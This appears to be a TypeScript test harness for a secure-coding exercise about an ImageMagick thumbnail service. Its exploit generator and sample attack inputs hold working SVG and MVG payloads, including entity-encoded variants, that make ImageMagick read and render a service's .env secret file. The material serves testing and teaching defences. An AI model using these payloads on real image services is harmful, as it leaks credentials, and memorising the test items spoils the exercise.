import assert from 'node:assert/strict'
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { resolve } from 'node:path'
import type { Breach, Vary } from '#proof/vary'

type Code = typeof import('./typescript/make-thumbnail.ts')
type Run = Parameters<Code['makeThumbnail']>[1]
type InPython = Omit<Code, 'makeThumbnail'> & { makeThumbnail: (folder: string, run: unknown, upload: object) => ReturnType<Code['makeThumbnail']> }

export const adapt = {
  python: (code: InPython) => ({
    ...code,
    makeThumbnail: (folder: string, start: Run, upload: object) => code.makeThumbnail(folder, ([program = '', ...args]: string[]) => start(program, args), upload),
  }),
}

/** ImageMagick has ended with an error. */
class SubprocessError extends Error {
  override name = 'SubprocessError'
}

const png = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1')
const jpeg = Buffer.from('\xff\xd8\xff', 'latin1')
/** Pictures hold any bytes, and cameras write XML into them. */
const pictureOf = (start: Buffer, text: string, vary: Vary) =>
  Buffer.concat([start, Buffer.from(vary.shuffle([text, '<?xpacket begin=""?>', '<svg>', `<${vary.word()}@example.com>`, vary.remark()]).join(' '))])
const decoders: Record<string, string> = { png: 'png', png8: 'png', png24: 'png', png32: 'png', jpg: 'jpeg', jpeg: 'jpeg', jpe: 'jpeg', pjpeg: 'jpeg', svg: 'svg', msvg: 'svg', mvg: 'mvg' }

/** The first bytes that ImageMagick knows, and then the extension. */
function findFormat(data: Buffer, path: string): string | undefined {
  if (data.subarray(0, 8).equals(png)) return 'png'
  if (data.subarray(0, 3).equals(jpeg)) return 'jpeg'
  const start = data.subarray(0, 60).toString('latin1')
  if (/^<(svg|\?xml)/i.test(start)) return 'svg'
  if (start.startsWith('push graphic-context')) return 'mvg'
  return decoders[path.split('.').at(-1) ?? '']
}

const decode = (text: string) => text.replace(/&#(x?)([0-9a-f]+);/gi, (_, hex, digits) => String.fromCodePoint(Number.parseInt(digits, hex ? 16 : 10)))

/** The file that a drawing asks for, however the drawing is written. */
function findDrawn(format: string, text: string): string | undefined {
  const pattern = format === 'svg' ? /<(?:[\w-]+:)?image\b[^>]*?\b(?:[\w-]+:)?href\s*=\s*(?:"([^"]*)"|'([^']*)')/ : /^image over [\d, ]+"([^"]*)"/m
  const [, first, second] = pattern.exec(text) ?? []
  const [, path] = /^(?:text|label):@?(.+)$/.exec(decode(first ?? second ?? '')) ?? []
  return path
}

/** What ImageMagick was last asked to do. */
let lastArgs: string[] = []

/** ImageMagick in small: the content decides about the format unless a prefix does, and drawings show the files that they name. */
async function run(program: string, args: string[]): Promise<void> {
  assert.equal(program, 'magick', 'The program should be `magick`.')
  lastArgs = [...args]
  const input = args.find((one) => existsSync(one.replace(/^[a-z\d]+:/i, ''))) ?? ''
  const [, prefix, path = ''] = /^(?:([a-z\d]+):)?(.*)$/i.exec(input) ?? []
  const data = readFileSync(path)
  const found = findFormat(data, path)
  const format = prefix === undefined ? found : decoders[prefix.toLowerCase()]
  const isReadable = format === 'png' || format === 'jpeg' ? findFormat(data, '') === format : format === 'svg' || format === 'mvg'
  if (!isReadable) throw new SubprocessError('improper image header')
  const drawn = format === 'svg' || format === 'mvg' ? findDrawn(format, data.toString()) : undefined
  writeFileSync((args.at(-1) ?? '').replace(/^png:/i, ''), Buffer.concat([png, drawn ? readFileSync(drawn) : data]))
}

const makeFolder = () => {
  mkdirSync('work', { recursive: true })
  return resolve('work')
}

export async function works({ makeThumbnail, Refused }: Code, vary: Vary) {
  const folder = makeFolder()
  for (const [start, type, end] of [[png, 'png', 'PNG'], [jpeg, 'jpeg', 'jpeg'], [jpeg, 'jpeg', 'jpg'], [png, 'png', 'png']] as const) {
    const [fileName, text] = [`${vary.pick(['lamp', vary.word(), `svg ${vary.word()}`])}.${end}`, vary.text(12)]
    const small = await makeThumbnail(folder, run, { fileName, type: `image/${type}`, data: pictureOf(start, text, vary) })
    assert.ok(Buffer.from(small).includes(text), `The picture ${fileName} should become a thumbnail. A real picture may hold any bytes, such as "<".`)
    const size = lastArgs.findIndex((one) => /^-(thumbnail|resize|scale|sample)$/.test(one))
    assert.equal(lastArgs[size + 1], '200x200', 'A picture should be made smaller, to 200 by 200 at most.')
  }
  const name = vary.word()
  for (const [upload, why] of [
    [{ fileName: `${name}.gif`, type: 'image/gif', data: png }, 'A file with another extension should be refused.'],
    [{ fileName: `${name}.png`, type: 'image/png', data: Buffer.alloc(0) }, 'An empty file should be refused.'],
    [{ fileName: `${name}.png`, type: 'image/png', data: Buffer.from(vary.remark()) }, 'A file that is no picture should be refused.'],
  ] as const)
    await assert.rejects(makeThumbnail(folder, run, upload), Refused, why)
  assert.deepEqual(readdirSync(folder), [], 'Nothing should be left in the work folder.')
}

/** Drawings that ask for a file of the service, in the ways in which they can be written. */
function createDrawings(file: string, vary: Vary) {
  const [a, b] = [vary.word(), vary.word()]
  const spelled = [...'text'].map((letter) => vary.pick([letter, `&#${letter.charCodeAt(0)};`, `&#x${letter.charCodeAt(0).toString(16)};`])).join('')
  const svg = 'http://www.w3.org/2000/svg'
  return vary.shuffle([
    `<svg xmlns="${svg}"><image href="text:${file}"/></svg>`,
    `<?xml version="1.0"?>\n<svg xmlns="${svg}"><image href='text:${file}'/></svg>`,
    `<?xml version="1.0"?><${a}:svg xmlns:${a}="${svg}" xmlns:${b}="http://www.w3.org/1999/xlink"><${a}:image ${b}:href="text:${file}"/></${a}:svg>`,
    `<?xml version='1.0'?><!-- ${vary.word()} --><!DOCTYPE ${a}:svg><${a}:svg xmlns:${a}="${svg}"><${a}:image\n href = "${spelled}:${file}"/></${a}:svg>`,
    `<?XML version="1.0"?><${b}:svg xmlns:${b}="${svg}"><${b}:image href="&#x74;&#x65;xt:${file}"/></${b}:svg>`,
    `push graphic-context\nviewbox 0 0 ${vary.number(200, 400)} ${vary.number(200, 400)}\nimage over 0,0 0,0 "text:${file}"\npop graphic-context`,
    `push graphic-context\nimage over 0,0 0,0 "label:@${file}"\npop graphic-context`,
    // A drawing needn't be plain text: comments hold any bytes.
  ].map((drawing) => drawing + vary.pick(['', drawing.startsWith('<') ? `<!-- ${vary.word()} \u00fc\u00ff -->` : `\n# \0\u00ff ${vary.word()}\n`])))
}

export async function exploit({ makeThumbnail }: Code, vary: Vary): Promise<Breach | false> {
  const folder = makeFolder()
  const [file, key] = [`${vary.word()}.env`, vary.text(20)]
  writeFileSync(file, `KEY=${key}`)
  for (const drawing of createDrawings(file, vary))
    for (const [end, declared] of vary.shuffle(['png', 'jpg', 'jpeg'].flatMap((one) => [[one, one.replace('jpg', 'jpeg')], [one, vary.pick(['svg', 'mvg', 'msvg', 'svg+xml', 'SVG', 'gif', ''])]] as const))) {
      const upload = { fileName: `${vary.pick(['lamp', 'lamp.svg', 'lamp.mvg', vary.word()])}.${end}`, type: `image/${declared}`, data: Buffer.from(drawing) }
      const small = await makeThumbnail(folder, run, upload).catch(() => Buffer.alloc(0))
      if (Buffer.from(small).includes(key))
        return {
          sent: `a picture called ${upload.fileName}, declared as ${upload.type}, with the content\n${drawing}`,
          got: `a thumbnail that shows KEY=${key}`,
          damage: `That is the content of the service's file ${file}: ImageMagick took the text for a drawing, and drew the file that it names.`,
        }
    }
  return false
}

// Attack mode: the learner writes the input.
export async function attack({ makeThumbnail }: Code, input: { fileName: string; content: string }, vary: Vary) {
  const [folder, key] = [makeFolder(), vary.text(20)]
  writeFileSync('app.env', `KEY=${key}`)
  const type = input.fileName.toLowerCase().endsWith('png') ? 'image/png' : 'image/jpeg'
  try {
    const small = Buffer.from(await makeThumbnail(folder, run, { fileName: input.fileName, type, data: Buffer.from(input.content) })).subarray(png.length)
    return { isDone: small.includes(key), shown: small.length > 0 ? `The thumbnail shows: ${small}` : 'The thumbnail is empty.' }
  } catch (error) {
    return { isDone: false, shown: String(error) }
  }
}

export const attacks = [
  { input: { fileName: 'lamp.png', content: '<svg xmlns="http://www.w3.org/2000/svg"><image href="text:app.env"/></svg>' }, isDone: true },
  { input: { fileName: 'lamp.svg', content: '<svg xmlns="http://www.w3.org/2000/svg"><image href="text:app.env"/></svg>' }, isDone: false },
  { input: { fileName: 'lamp.png', content: 'text:app.env' }, isDone: false },
]
